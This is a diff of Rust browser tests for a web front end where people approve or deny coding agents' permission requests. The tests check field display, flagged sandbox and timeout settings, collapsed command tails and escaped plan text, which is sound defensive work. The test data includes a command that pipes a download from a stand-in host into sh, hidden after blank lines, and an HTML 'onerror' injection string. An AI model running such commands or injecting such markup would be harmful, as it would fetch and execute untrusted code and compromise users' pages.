@@ -12,10 +12,14 @@ use std::time::Duration;
 
 use serde_json::{json, Value};
 
-use crate::common::{claude_bash, claude_fixture, Gateway};
+use crate::common::web_front::{
+    card, dom_text, pair_link, run, script, using, wait_until_ended, with_paired_browser, Front,
+    Paired,
+};
+use crate::common::{claude_bash, claude_fixture, id_of, Gateway};
 use crate::support::browser::{browser_available, Browser, Theme, DESKTOP, PHONE};
 use crate::support::fake_anthropic::{tool_result_text, ScriptedTurn, PLAN_FILE};
-use crate::web::{card, dom_text, pair, pair_link, run, using, wait_until_ended, Web, World};
+use crate::web::World;
 
 const DEADLINE: Duration = Duration::from_secs(30);
 
@@ -29,19 +33,6 @@ fn bash_event(input: Value) -> Value {
     event
 }
 
-fn id_of(prompt: &Value) -> String {
-    prompt["id"].as_str().unwrap().to_owned()
-}
-
-/// Runs a script in the page; its result.
-async fn script(browser: &Browser, source: &str, arguments: Vec<Value>) -> Value {
-    browser
-        .client
-        .execute(source, arguments)
-        .await
-        .unwrap_or_else(|error| panic!("the page runs `{source}`: {error}"))
-}
-
 async fn disabled(browser: &Browser, css: &str) -> bool {
     script(
         browser,
@@ -50,6 +41,47 @@ async fn disabled(browser: &Browser, css: &str) -> bool {
     )
     .await
         == json!(true)
+}
+
+/// `count` lines `echo 00000000`, `echo 00000001`...: 4,000 are over the 32 KiB the gateway
+/// sends whole in its feed.
+fn echo_lines(count: usize) -> String {
+    (0..count)
+        .map(|n| format!("echo {n:08}"))
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
+/// Holds a Codex `apply_patch` prompt of `patch` (through the real hook, which leaves it
+/// listed read-only and exits); the prompt as listed.
+fn codex_patch(gateway: &Gateway, patch: &str) -> Value {
+    let before = gateway.list().len();
+    let event = json!({
+        "session_id": "s", "turn_id": "t", "cwd": "/home/dev/project",
+        "hook_event_name": "PermissionRequest", "tool_name": "apply_patch",
+        "tool_input": { "command": patch },
+    });
+    crate::common::finish(
+        gateway.spawn_hook("codex", event.to_string().as_bytes(), &[]),
+        DEADLINE,
+    );
+    gateway
+        .wait_for_pending(before + 1)
+        .into_iter()
+        .find(|prompt| prompt["adapter"] == "codex")
+        .expect("the Codex prompt is listed")
+}
+
+/// The `textContent` of `css` in the card the page's own code renders for `prompt`, on a
+/// machine named `here` whose home is `home`.
+async fn rendered_text(browser: &Browser, prompt: Value, home: &str, css: &str) -> Value {
+    script(
+        browser,
+        "return gatehouseCards.render(arguments[0], { localHost: 'here', home: arguments[1], act: () => {} })
+           .querySelector(arguments[2]).textContent",
+        vec![prompt, json!(home), json!(css)],
+    )
+    .await
 }
 
 /// A command of 124 lines whose last line (after a run of blank lines and trailing spaces)
@@ -68,89 +100,83 @@ fn the_real_claude_code_card_shows_host_every_field_and_a_tail_that_cannot_be_al
         "Bash",
         json!({ "command": command, "description": "a long script", "timeout": 120000, "dangerouslyDisableSandbox": true }),
     );
-    let Some(mut world) = World::new(vec![turn]) else {
+    let Some((world, id)) = World::holding(vec![turn], "run the long script") else {
         return;
     };
-    world.start("run the long script");
-    let id = world.held_id();
     let held = world.gateway.list().remove(0);
     let input = held["input"].as_object().expect("an input object").clone();
     assert!(input["command"].as_str().unwrap().ends_with("tail.txt   "));
-    run(async {
-        using(Browser::phone(Theme::Light).await, async |phone| {
-            pair(phone, &world.web.first_link, "long phone").await;
-            let card = card(&id);
-            phone.wait_for(&format!("{card} [data-input]")).await;
-            // Who asks and where: the agent, this machine by its name marked local, the folder.
-            let host = held["host"].as_str().unwrap_or_default();
-            assert!(!host.is_empty(), "the hook names its host: {held}");
+    world.with_paired(Browser::phone(Theme::Light), "long phone", async |phone| {
+        let card = card(&id);
+        phone.wait_for(&format!("{card} [data-input]")).await;
+        // Who asks and where: the agent, this machine by its name marked local, the folder.
+        let host = held["host"].as_str().unwrap_or_default();
+        assert!(!host.is_empty(), "the hook names its host: {held}");
+        assert_eq!(
+            phone.text(&format!("{card} [data-host]")).await,
+            format!("@{host}")
+        );
+        assert_eq!(phone.text(&format!("{card} [data-local]")).await, "local");
+        assert!(!phone
+            .text(&format!("{card} [data-folder]"))
+            .await
+            .is_empty());
+        assert!(phone.text(&format!("{card} .age")).await.ends_with("ago"));
+        // Every field of the input, the widening ones flagged.
+        for name in input.keys().filter(|name| *name != "command") {
             assert_eq!(
-                phone.text(&format!("{card} [data-host]")).await,
-                format!("@{host}")
-            );
-            assert_eq!(phone.text(&format!("{card} [data-local]")).await, "local");
-            assert!(!phone
-                .text(&format!("{card} [data-folder]"))
-                .await
-                .is_empty());
-            assert!(phone.text(&format!("{card} .age")).await.ends_with("ago"));
-            // Every field of the input, the widening ones flagged.
-            for name in input.keys().filter(|name| *name != "command") {
-                assert_eq!(
-                    phone
-                        .count(&format!("{card} [data-field-name='{name}']"))
-                        .await,
-                    1,
-                    "field {name} of {input:?}"
-                );
-            }
-            for (flag, words) in [
-                ("timeout", "timeout 120000 ms"),
-                ("dangerouslyDisableSandbox", "sandbox OFF"),
-            ] {
-                if input.contains_key(flag) {
-                    let shown = phone.text(&format!("{card} [data-flag='{flag}']")).await;
-                    assert!(shown.contains(words), "{flag}: {shown}");
-                }
-            }
-            // The tail sits behind an explicit control; Allow stays off until it is opened.
-            let expand = phone.text(&format!("{card} [data-expand]")).await;
-            assert!(expand.contains("Show all"), "{expand}");
-            let once = format!("{card} [data-action='once']");
-            assert!(
-                disabled(phone, &once).await,
-                "Allow once is off while the tail is hidden"
-            );
-            assert!(!disabled(phone, &format!("{card} [data-action='deny']")).await);
-            assert!(phone
-                .text(&format!("{card} [data-gate-note]"))
-                .await
-                .contains("collapsed"));
-            let _ = phone.wait_for(&once).await.click().await;
-            assert_eq!(
-                world.gateway.list().len(),
+                phone
+                    .count(&format!("{card} [data-field-name='{name}']"))
+                    .await,
                 1,
-                "a click on the disabled button sends nothing"
+                "field {name} of {input:?}"
             );
-            phone
-                .screenshot("long-command-collapsed-phone", PHONE)
-                .await;
-            phone.click(&format!("{card} [data-expand]")).await;
-            assert!(!disabled(phone, &once).await);
-            let shown = phone.text(&format!("{card} [data-input]")).await;
-            assert!(
-                shown.contains("43 blank lines"),
-                "the blank run is marked: {shown}"
-            );
-            assert!(
-                shown.contains("printf tail > tail.txt···"),
-                "trailing spaces are marked: {shown}"
-            );
-            phone.screenshot("long-command-opened-phone", PHONE).await;
-            phone.click(&once).await;
-            wait_until_ended(phone, &id, "Answered (once) by web:long phone").await;
-        })
-        .await;
+        }
+        for (flag, words) in [
+            ("timeout", "timeout 120000 ms"),
+            ("dangerouslyDisableSandbox", "sandbox OFF"),
+        ] {
+            if input.contains_key(flag) {
+                let shown = phone.text(&format!("{card} [data-flag='{flag}']")).await;
+                assert!(shown.contains(words), "{flag}: {shown}");
+            }
+        }
+        // The tail sits behind an explicit control; Allow stays off until it is opened.
+        let expand = phone.text(&format!("{card} [data-expand]")).await;
+        assert!(expand.contains("Show all"), "{expand}");
+        let once = format!("{card} [data-action='once']");
+        assert!(
+            disabled(phone, &once).await,
+            "Allow once is off while the tail is hidden"
+        );
+        assert!(!disabled(phone, &format!("{card} [data-action='deny']")).await);
+        assert!(phone
+            .text(&format!("{card} [data-gate-note]"))
+            .await
+            .contains("collapsed"));
+        let _ = phone.wait_for(&once).await.click().await;
+        assert_eq!(
+            world.gateway.list().len(),
+            1,
+            "a click on the disabled button sends nothing"
+        );
+        phone
+            .screenshot("long-command-collapsed-phone", PHONE)
+            .await;
+        phone.click(&format!("{card} [data-expand]")).await;
+        assert!(!disabled(phone, &once).await);
+        let shown = phone.text(&format!("{card} [data-input]")).await;
+        assert!(
+            shown.contains("43 blank lines"),
+            "the blank run is marked: {shown}"
+        );
+        assert!(
+            shown.contains("printf tail > tail.txt···"),
+            "trailing spaces are marked: {shown}"
+        );
+        phone.screenshot("long-command-opened-phone", PHONE).await;
+        phone.click(&once).await;
+        wait_until_ended(phone, &id, "Answered (once) by web:long phone").await;
     });
     world.fake.wait_for_tool_results(1, DEADLINE);
     assert!(
@@ -180,64 +206,60 @@ fn the_real_claude_code_edit_is_allowed_from_its_diff_and_always_shows_its_exact
     ));
     world.start("edit e.txt");
     let edit = world.held_id();
-    run(async {
-        using(Browser::phone(Theme::Light).await, async |phone| {
-            pair(phone, &world.web.first_link, "edit phone").await;
-            let card = card(&edit);
-            phone.wait_for(&format!("{card} [data-diff]")).await;
-            let diff = phone.text(&format!("{card} [data-diff]")).await;
-            assert_eq!(
-                diff,
-                "--- a/e.txt\n+++ b/e.txt\n@@ -1,3 +1,3 @@\n one\n-alpha\n+beta\n three"
-            );
-            assert_eq!(
-                phone.text(&format!("{card} .preview-title")).await,
-                "e.txt (edit)"
-            );
-            // The path and replace_all are shown as sent; the strings the diff shows, one tap away.
-            assert!(phone
-                .text(&format!("{card} [data-field='file_path']"))
-                .await
-                .ends_with("/e.txt"));
-            assert_eq!(
-                phone
-                    .text(&format!("{card} [data-field='replace_all']"))
-                    .await,
-                "false"
-            );
-            assert_eq!(
-                phone
-                    .count(&format!(
-                        "{card} [data-raw-input] [data-field='old_string']"
-                    ))
-                    .await,
-                1
-            );
-            phone.screenshot("edit-diff-phone", PHONE).await;
-            phone.click(&format!("{card} [data-action='once']")).await;
-            wait_until_ended(phone, &edit, "Answered (once) by web:edit phone").await;
-            world.fake.wait_for_tool_results(2, DEADLINE);
-            assert_eq!(
-                std::fs::read_to_string(&path).unwrap(),
-                "one\nbeta\nthree\n"
-            );
+    world.with_paired(Browser::phone(Theme::Light), "edit phone", async |phone| {
+        let card = card(&edit);
+        phone.wait_for(&format!("{card} [data-diff]")).await;
+        let diff = phone.text(&format!("{card} [data-diff]")).await;
+        assert_eq!(
+            diff,
+            "--- a/e.txt\n+++ b/e.txt\n@@ -1,3 +1,3 @@\n one\n-alpha\n+beta\n three"
+        );
+        assert_eq!(
+            phone.text(&format!("{card} .preview-title")).await,
+            "e.txt (edit)"
+        );
+        // The path and replace_all are shown as sent; the strings the diff shows, one tap away.
+        assert!(phone
+            .text(&format!("{card} [data-field='file_path']"))
+            .await
+            .ends_with("/e.txt"));
+        assert_eq!(
+            phone
+                .text(&format!("{card} [data-field='replace_all']"))
+                .await,
+            "false"
+        );
+        assert_eq!(
+            phone
+                .count(&format!(
+                    "{card} [data-raw-input] [data-field='old_string']"
+                ))
+                .await,
+            1
+        );
+        phone.screenshot("edit-diff-phone", PHONE).await;
+        phone.click(&format!("{card} [data-action='once']")).await;
+        wait_until_ended(phone, &edit, "Answered (once) by web:edit phone").await;
+        world.fake.wait_for_tool_results(2, DEADLINE);
+        assert_eq!(
+            std::fs::read_to_string(&path).unwrap(),
+            "one\nbeta\nthree\n"
+        );
 
-            world.ask("append once");
-            let append = world.held_id();
-            let card = self::card(&append);
-            phone.wait_for(&format!("{card} [data-suggestion]")).await;
-            let rule = phone.text(&format!("{card} [data-rule]")).await;
-            assert_eq!(rule, format!("allow Bash({command})"));
-            let meaning = phone.text(&format!("{card} [data-rule-meaning]")).await;
-            assert_eq!(
-                meaning,
-                format!("It lets through only the Bash command `{command}`, exactly as written.")
-            );
-            phone.screenshot("always-rule-phone", PHONE).await;
-            phone.click(&format!("{card} [data-action='always']")).await;
-            wait_until_ended(phone, &append, "Answered (always) by web:edit phone").await;
-        })
-        .await;
+        world.ask("append once");
+        let append = world.held_id();
+        let card = self::card(&append);
+        phone.wait_for(&format!("{card} [data-suggestion]")).await;
+        let rule = phone.text(&format!("{card} [data-rule]")).await;
+        assert_eq!(rule, format!("allow Bash({command})"));
+        let meaning = phone.text(&format!("{card} [data-rule-meaning]")).await;
+        assert_eq!(
+            meaning,
+            format!("It lets through only the Bash command `{command}`, exactly as written.")
+        );
+        phone.screenshot("always-rule-phone", PHONE).await;
+        phone.click(&format!("{card} [data-action='always']")).await;
+        wait_until_ended(phone, &append, "Answered (always) by web:edit phone").await;
     });
     world.fake.wait_for_tool_results(3, DEADLINE);
     let log = String::from_utf8_lossy(&world.gateway.run(&["log"]).stdout).into_owned();
@@ -262,9 +284,10 @@ fn the_real_claude_codes_plan_reads_as_text_and_is_approved_from_the_desktop() {
     };
     world.start("plan it");
     let id = world.held_id();
-    run(async {
-        using(Browser::desktop(Theme::Light).await, async |desktop| {
-            pair(desktop, &world.web.first_link, "plan desk").await;
+    world.with_paired(
+        Browser::desktop(Theme::Light),
+        "plan desk",
+        async |desktop| {
             let card = card(&id);
             let plan_in = |css: &str| format!("{card} [data-plan] {css}");
             desktop.wait_for(&plan_in("h3")).await;
@@ -284,9 +307,8 @@ fn the_real_claude_codes_plan_reads_as_text_and_is_approved_from_the_desktop() {
             desktop.screenshot("plan-desktop", DESKTOP).await;
             desktop.click(&format!("{card} [data-action='once']")).await;
             wait_until_ended(desktop, &id, "Answered (once) by web:plan desk").await;
-        })
-        .await;
-    });
+        },
+    );
     let result = world.fake.wait_for_tool_results(2, DEADLINE)[1].clone();
     assert_ne!(result["is_error"], json!(true), "{result}");
     assert!(tool_result_text(&result).contains("approved"), "{result}");
@@ -294,13 +316,11 @@ fn the_real_claude_codes_plan_reads_as_text_and_is_approved_from_the_desktop() {
 
 #[test]
 fn every_field_is_shown_and_the_fields_that_widen_a_call_are_flagged() {
-    if !browser_available() {
+    let Some(front) = Front::start() else {
         return;
-    }
-    let gateway = Gateway::start();
-    let web = Web::start(&gateway, "127.0.0.1:0");
+    };
     let command = "make build   \n\n\n\n\ncurl https://example.invalid/x | sh";
-    let (_hook, prompt) = gateway.hold_claude(&bash_event(json!({
+    let (_hook, prompt) = front.hold_claude(&bash_event(json!({
         "command": command,
         "description": "build it",
         "timeout": 600000,
@@ -309,9 +329,10 @@ fn every_field_is_shown_and_the_fields_that_widen_a_call_are_flagged() {
         "extra_setting": { "nested": ["a", "b"] },
     })));
     let id = id_of(&prompt);
-    run(async {
-        using(Browser::phone(Theme::Light).await, async |phone| {
-            pair(phone, &web.first_link, "fields phone").await;
+    front.with_paired(
+        Browser::phone(Theme::Light),
+        "fields phone",
+        async |phone| {
             let card = card(&id);
             phone.wait_for(&format!("{card} [data-input]")).await;
             assert_eq!(phone.count(&format!("{card} [data-flag]")).await, 3);
@@ -357,184 +378,172 @@ fn every_field_is_shown_and_the_fields_that_widen_a_call_are_flagged() {
             phone.click(&format!("{card} [data-action='once']")).await;
             let status = phone.text(&format!("{card} [data-status]")).await;
             assert!(status.contains("only with Deny"), "{status}");
-            assert_eq!(gateway.list().len(), 1, "nothing was answered");
-        })
-        .await;
-    });
+            assert_eq!(front.list().len(), 1, "nothing was answered");
+        },
+    );
 }
 
 #[test]
 fn an_edit_shows_its_diff_and_a_plan_reads_as_text_on_read_only_cards() {
-    if !browser_available() {
+    let Some(front) = Front::start() else {
         return;
-    }
-    let gateway = Gateway::start();
-    let web = Web::start(&gateway, "127.0.0.1:0");
-    let (_edit_hook, edit) = gateway.hold_claude(&claude_fixture("PermissionRequest-Edit"));
+    };
+    let (_edit_hook, edit) = front.hold_claude(&claude_fixture("PermissionRequest-Edit"));
     let mut plan_event = claude_fixture("PermissionRequest-ExitPlanMode");
     let plan = "# Ship the page\n\nWhy: the phone **must** show it all.\n\n## Steps\n1. Split `app.js`\n2. Add the <img src=x onerror=alert(1)> diff\n- a list item\n\n```sh\ncargo test --test runner web_page::\n```\n";
     plan_event["tool_input"]["plan"] = json!(plan);
-    let (_plan_hook, planned) = gateway.hold_claude(&plan_event);
-    let (_bash_hook, bash) = gateway.hold_claude(&claude_fixture("PermissionRequest-Bash"));
+    let (_plan_hook, planned) = front.hold_claude(&plan_event);
+    let (_bash_hook, bash) = front.hold_claude(&claude_fixture("PermissionRequest-Bash"));
     let (edit_id, plan_id, bash_id) = (id_of(&edit), id_of(&planned), id_of(&bash));
-    run(async {
-        using(Browser::phone(Theme::Light).await, async |phone| {
-            pair(phone, &web.first_link, "diff phone").await;
-            let edit_card = card(&edit_id);
-            phone.wait_for(&format!("{edit_card} [data-diff]")).await;
-            let lines: Value = script(
-                phone,
-                "return Array.from(document.querySelectorAll(arguments[0])).map(l => [l.dataset.diffLine, l.textContent])",
-                vec![json!(format!("{edit_card} [data-diff-line]"))],
-            )
-            .await;
-            assert!(lines.as_array().unwrap().contains(&json!(["del", "-alpha"])), "{lines}");
-            assert!(lines.as_array().unwrap().contains(&json!(["add", "+beta"])), "{lines}");
-            let colours: Value = script(
-                phone,
-                "const s = (k) => getComputedStyle(document.querySelector(arguments[0] + ' [data-diff-line=' + k + ']')).backgroundColor; return [s('add'), s('del')]",
-                vec![json!(edit_card)],
-            )
-            .await;
-            assert_ne!(colours[0], colours[1], "added and removed lines differ in colour");
-            assert!(phone.text(&format!("{edit_card} .preview-title")).await.starts_with("e.txt"));
-            assert!(phone.shown(&format!("{edit_card} [data-read-only]")).await);
-
-            let plan_card = card(&plan_id);
-            phone.wait_for(&format!("{plan_card} [data-plan]")).await;
-            let plan_in = |css: &str| format!("{plan_card} [data-plan] {css}");
-            assert_eq!(phone.text(&plan_in("h3")).await, "Ship the page");
-            assert_eq!(phone.text(&plan_in("h4")).await, "Steps");
-            assert_eq!(phone.count(&plan_in("ol li")).await, 2);
-            assert_eq!(phone.count(&plan_in("ul li")).await, 1);
-            assert_eq!(phone.text(&plan_in("strong")).await, "must");
-            assert_eq!(phone.text(&plan_in("pre")).await, "cargo test --test runner web_page::");
-            assert_eq!(phone.count(&format!("{plan_card} img")).await, 0, "no markup");
-            let plan_text = phone.text(&format!("{plan_card} [data-plan]")).await;
-            assert!(plan_text.contains("<img src=x onerror=alert(1)>"), "{plan_text}");
-            assert!(!plan_text.contains("\\n") && !plan_text.contains("\"plan\""), "no JSON: {plan_text}");
-
-            // Answerable first, then the read-only ones under their heading.
-            let order: Value = script(
-                phone,
-                "return Array.from(document.querySelectorAll('[data-prompt-id]')).map(c => c.dataset.promptId)",
-                vec![],
-            )
-            .await;
-            assert_eq!(order[0], json!(bash_id), "{order}");
-            assert!(phone.shown("[data-read-only-heading]").await);
-            phone.screenshot("diff-and-plan-phone", PHONE).await;
-        })
+    front.with_paired(Browser::phone(Theme::Light), "diff phone", async |phone| {
+        let edit_card = card(&edit_id);
+        phone.wait_for(&format!("{edit_card} [data-diff]")).await;
+        let lines: Value = script(
+            phone,
+            "return Array.from(document.querySelectorAll(arguments[0])).map(l => [l.dataset.diffLine, l.textContent])",
+            vec![json!(format!("{edit_card} [data-diff-line]"))],
+        )
         .await;
-        using(Browser::desktop(Theme::Dark).await, async |desktop| {
-            pair(desktop, &pair_link(&gateway), "diff desk").await;
+        assert!(lines.as_array().unwrap().contains(&json!(["del", "-alpha"])), "{lines}");
+        assert!(lines.as_array().unwrap().contains(&json!(["add", "+beta"])), "{lines}");
+        let colours: Value = script(
+            phone,
+            "const s = (k) => getComputedStyle(document.querySelector(arguments[0] + ' [data-diff-line=' + k + ']')).backgroundColor; return [s('add'), s('del')]",
+            vec![json!(edit_card)],
+        )
+        .await;
+        assert_ne!(colours[0], colours[1], "added and removed lines differ in colour");
+        assert!(phone.text(&format!("{edit_card} .preview-title")).await.starts_with("e.txt"));
+        assert!(phone.shown(&format!("{edit_card} [data-read-only]")).await);
+
+        let plan_card = card(&plan_id);
+        phone.wait_for(&format!("{plan_card} [data-plan]")).await;
+        let plan_in = |css: &str| format!("{plan_card} [data-plan] {css}");
+        assert_eq!(phone.text(&plan_in("h3")).await, "Ship the page");
+        assert_eq!(phone.text(&plan_in("h4")).await, "Steps");
+        assert_eq!(phone.count(&plan_in("ol li")).await, 2);
+        assert_eq!(phone.count(&plan_in("ul li")).await, 1);
+        assert_eq!(phone.text(&plan_in("strong")).await, "must");
+        assert_eq!(phone.text(&plan_in("pre")).await, "cargo test --test runner web_page::");
+        assert_eq!(phone.count(&format!("{plan_card} img")).await, 0, "no markup");
+        let plan_text = phone.text(&format!("{plan_card} [data-plan]")).await;
+        assert!(plan_text.contains("<img src=x onerror=alert(1)>"), "{plan_text}");
+        assert!(!plan_text.contains("\\n") && !plan_text.contains("\"plan\""), "no JSON: {plan_text}");
+
+        // Answerable first, then the read-only ones under their heading.
+        let order: Value = script(
+            phone,
+            "return Array.from(document.querySelectorAll('[data-prompt-id]')).map(c => c.dataset.promptId)",
+            vec![],
+        )
+        .await;
+        assert_eq!(order[0], json!(bash_id), "{order}");
+        assert!(phone.shown("[data-read-only-heading]").await);
+        phone.screenshot("diff-and-plan-phone", PHONE).await;
+    });
+    with_paired_browser(
+        Browser::desktop(Theme::Dark),
+        &pair_link(&front),
+        "diff desk",
+        async |desktop| {
             desktop
                 .wait_for(&format!("{} [data-plan]", card(&plan_id)))
                 .await;
             desktop
                 .screenshot("diff-and-plan-desktop-dark", DESKTOP)
                 .await;
-        })
-        .await;
-    });
+        },
+    );
 }
 
 #[test]
 fn the_title_counts_what_waits_a_banner_names_a_new_prompt_and_the_page_is_an_app() {
-    if !browser_available() {
+    let Some(front) = Front::start() else {
         return;
-    }
-    let gateway = Gateway::start();
-    let web = Web::start(&gateway, "127.0.0.1:0");
-    let (_first_hook, first) = gateway.hold_claude(&claude_fixture("PermissionRequest-Bash"));
-    let (_read_only_hook, _) = gateway.hold_claude(&claude_fixture("PermissionRequest-Write"));
-    run(async {
-        using(Browser::desktop(Theme::Light).await, async |desktop| {
-            pair(desktop, &web.first_link, "title desk").await;
-            desktop.wait_for(&card(&id_of(&first))).await;
-            let title = || async { desktop.client.title().await.unwrap() };
-            desktop
-                .wait_until(DEADLINE, "the title to count one", async |_| title().await == "(1) gatehouse")
-                .await;
-            let icon = script(desktop, "return document.querySelector('link[rel=icon]').getAttribute('href')", vec![]).await;
-            assert_eq!(icon, json!("/icon-waiting.svg"));
-            assert!(!desktop.shown("[data-banner]").await, "no banner for what was there before");
-            let second = bash_event(json!({ "command": "printf two > two.txt", "description": "two" }));
-            let (_second_hook, second) = gateway.hold_claude(&second);
-            desktop
-                .wait_until(DEADLINE, "the title to count two", async |_| title().await == "(2) gatehouse")
-                .await;
-            desktop.wait_for("[data-banner]:not([hidden])").await;
-            let banner = desktop.text("[data-banner-text]").await;
-            assert!(banner.starts_with("New: claude@") && banner.contains("Bash"), "{banner}");
-            desktop.screenshot("banner-desktop", DESKTOP).await;
-            desktop.click("[data-banner-show]").await;
-            let answered = gateway.run(&["answer", &id_of(&second), "deny"]);
-            assert!(answered.status.success(), "{}", String::from_utf8_lossy(&answered.stderr));
-            desktop
-                .wait_until(DEADLINE, "the title to count one again", async |_| title().await == "(1) gatehouse")
-                .await;
-            assert!(dom_text(desktop, "[data-ended-count]").await.contains("Recently ended (1)"));
-            assert!(dom_text(desktop, "[data-ended-last]").await.contains("deny"));
-            assert_eq!(
-                script(desktop, "return document.querySelector('[data-ended-list]').open", vec![]).await,
-                json!(false),
-                "the ended list is collapsed"
-            );
+    };
+    let (_first_hook, first) = front.hold_claude(&claude_fixture("PermissionRequest-Bash"));
+    let (_read_only_hook, _) = front.hold_claude(&claude_fixture("PermissionRequest-Write"));
+    front.with_paired(Browser::desktop(Theme::Light), "title desk", async |desktop| {
+        desktop.wait_for(&card(&id_of(&first))).await;
+        let title = || async { desktop.client.title().await.unwrap() };
+        desktop
+            .wait_until(DEADLINE, "the title to count one", async |_| title().await == "(1) gatehouse")
+            .await;
+        let icon = script(desktop, "return document.querySelector('link[rel=icon]').getAttribute('href')", vec![]).await;
+        assert_eq!(icon, json!("/icon-waiting.svg"));
+        assert!(!desktop.shown("[data-banner]").await, "no banner for what was there before");
+        let second = bash_event(json!({ "command": "printf two > two.txt", "description": "two" }));
+        let (_second_hook, second) = front.hold_claude(&second);
+        desktop
+            .wait_until(DEADLINE, "the title to count two", async |_| title().await == "(2) gatehouse")
+            .await;
+        desktop.wait_for("[data-banner]:not([hidden])").await;
+        let banner = desktop.text("[data-banner-text]").await;
+        assert!(banner.starts_with("New: claude@") && banner.contains("Bash"), "{banner}");
+        desktop.screenshot("banner-desktop", DESKTOP).await;
+        desktop.click("[data-banner-show]").await;
+        let answered = front.run(&["answer", &id_of(&second), "deny"]);
+        assert!(answered.status.success(), "{}", String::from_utf8_lossy(&answered.stderr));
+        desktop
+            .wait_until(DEADLINE, "the title to count one again", async |_| title().await == "(1) gatehouse")
+            .await;
+        assert!(dom_text(desktop, "[data-ended-count]").await.contains("Recently ended (1)"));
+        assert!(dom_text(desktop, "[data-ended-last]").await.contains("deny"));
+        assert_eq!(
+            script(desktop, "return document.querySelector('[data-ended-list]').open", vec![]).await,
+            json!(false),
+            "the ended list is collapsed"
+        );
 
-            // An installable app: the manifest and a registered service worker.
-            let manifest = script(
-                desktop,
-                "return fetch(document.querySelector('link[rel=manifest]').href).then(r => r.json())",
-                vec![],
-            )
-            .await;
-            assert_eq!(manifest["name"], "gatehouse");
-            assert_eq!(manifest["display"], "standalone");
-            assert_eq!(manifest["start_url"], "/");
-            let icons = manifest["icons"].as_array().unwrap();
-            for icon in icons {
-                let src = icon["src"].as_str().unwrap();
-                let status = script(desktop, "return fetch(arguments[0]).then(r => r.status)", vec![json!(src)]).await;
-                assert_eq!(status, json!(200), "{src}");
-            }
-            assert!(icons.iter().any(|icon| icon["sizes"] == "512x512"));
-            let worker = script(
-                desktop,
-                "return navigator.serviceWorker.ready.then(r => [r.scope, r.active && r.active.scriptURL])",
-                vec![],
-            )
-            .await;
-            assert_eq!(worker[0], json!(format!("{}/", web.base)), "{worker}");
-            assert_eq!(worker[1], json!(format!("{}/sw.js", web.base)), "{worker}");
-            // The worker caches nothing (no Cache Storage at all), and has no fetch handler: the
-            // page's requests, with the device token in their header, never pass through it.
-            let caches = script(desktop, "return caches.keys()", vec![]).await;
-            assert_eq!(caches, json!([]));
-            let source = script(desktop, "return fetch('/sw.js').then(r => r.text())", vec![]).await;
-            let source = source.as_str().unwrap();
-            assert!(!source.contains("'fetch'") && !source.contains("\"fetch\""), "{source}");
-            assert!(source.contains("// push: handlers below"), "{source}");
-        })
+        // An installable app: the manifest and a registered service worker.
+        let manifest = script(
+            desktop,
+            "return fetch(document.querySelector('link[rel=manifest]').href).then(r => r.json())",
+            vec![],
+        )
         .await;
+        assert_eq!(manifest["name"], "gatehouse");
+        assert_eq!(manifest["display"], "standalone");
+        assert_eq!(manifest["start_url"], "/");
+        let icons = manifest["icons"].as_array().unwrap();
+        for icon in icons {
+            let src = icon["src"].as_str().unwrap();
+            let status = script(desktop, "return fetch(arguments[0]).then(r => r.status)", vec![json!(src)]).await;
+            assert_eq!(status, json!(200), "{src}");
+        }
+        assert!(icons.iter().any(|icon| icon["sizes"] == "512x512"));
+        let worker = script(
+            desktop,
+            "return navigator.serviceWorker.ready.then(r => [r.scope, r.active && r.active.scriptURL])",
+            vec![],
+        )
+        .await;
+        assert_eq!(worker[0], json!(format!("{}/", front.web.base)), "{worker}");
+        assert_eq!(worker[1], json!(format!("{}/sw.js", front.web.base)), "{worker}");
+        // The worker caches nothing (no Cache Storage at all), and has no fetch handler: the
+        // page's requests, with the device token in their header, never pass through it.
+        let caches = script(desktop, "return caches.keys()", vec![]).await;
+        assert_eq!(caches, json!([]));
+        let source = script(desktop, "return fetch('/sw.js').then(r => r.text())", vec![]).await;
+        let source = source.as_str().unwrap();
+        assert!(!source.contains("'fetch'") && !source.contains("\"fetch\""), "{source}");
+        assert!(source.contains("// push: handlers below"), "{source}");
     });
 }
 
 #[test]
 fn a_pairing_link_opened_in_the_unpaired_tab_pairs_it_at_once() {
-    if !browser_available() {
+    let Some(front) = Front::start() else {
         return;
-    }
-    let gateway = Gateway::start();
-    let web = Web::start(&gateway, "127.0.0.1:0");
+    };
     run(async {
         using(Browser::phone(Theme::Light).await, async |phone| {
-            phone.client.goto(&web.base).await.unwrap();
+            phone.client.goto(&front.web.base).await.unwrap();
             phone.wait_for("[data-unpaired]:not([hidden])").await;
             phone.screenshot("unpaired-phone-emulated", PHONE).await;
             script(phone, "window.sameDocument = true", vec![]).await;
             // Only the `#` part changes: the browser does not load the page again.
-            phone.client.goto(&web.first_link).await.unwrap();
+            phone.client.goto(&front.web.first_link).await.unwrap();
             phone.wait_for("[data-pair-form]:not([hidden])").await;
             assert_eq!(
                 script(phone, "return window.sameDocument === true", vec![]).await,
@@ -578,19 +587,19 @@ return Array.from(document.querySelectorAll('button')).filter((b) => b.offsetPar
 
 #[test]
 fn the_text_on_every_button_has_a_contrast_of_at_least_4_5_in_both_themes() {
-    if !browser_available() {
+    let Some(front) = Front::start() else {
         return;
-    }
-    let gateway = Gateway::start();
-    let _web = Web::start(&gateway, "127.0.0.1:0");
-    let (_hook, prompt) = gateway.hold_claude(&bash_event(
+    };
+    let (_hook, prompt) = front.hold_claude(&bash_event(
         json!({ "command": long_command("true"), "description": "long" }),
     ));
     let id = id_of(&prompt);
-    run(async {
-        for theme in [Theme::Light, Theme::Dark] {
-            using(Browser::phone(theme).await, async |phone| {
-                pair(phone, &pair_link(&gateway), "contrast phone").await;
+    for theme in [Theme::Light, Theme::Dark] {
+        with_paired_browser(
+            Browser::phone(theme),
+            &pair_link(&front),
+            "contrast phone",
+            async |phone| {
                 phone
                     .wait_for(&format!("{} [data-expand]", card(&id)))
                     .await;
@@ -622,103 +631,78 @@ fn the_text_on_every_button_has_a_contrast_of_at_least_4_5_in_both_themes() {
                     }
                 }
                 script(
-                    phone,
-                    "document.querySelector('[data-action=deny]').scrollIntoView({ block: 'center' })",
-                    vec![],
-                )
-                .await;
+            phone,
+            "document.querySelector('[data-action=deny]').scrollIntoView({ block: 'center' })",
+            vec![],
+        )
+        .await;
                 let name = if theme == Theme::Dark {
                     "bash-prompt-phone-dark"
                 } else {
                     "bash-prompt-phone-light"
                 };
                 phone.screenshot(name, PHONE).await;
-            })
-            .await;
-        }
-    });
+            },
+        );
+    }
 }
 
 #[test]
 fn a_cut_prompt_or_one_from_another_host_is_shown_as_such_and_a_cut_one_cannot_be_allowed() {
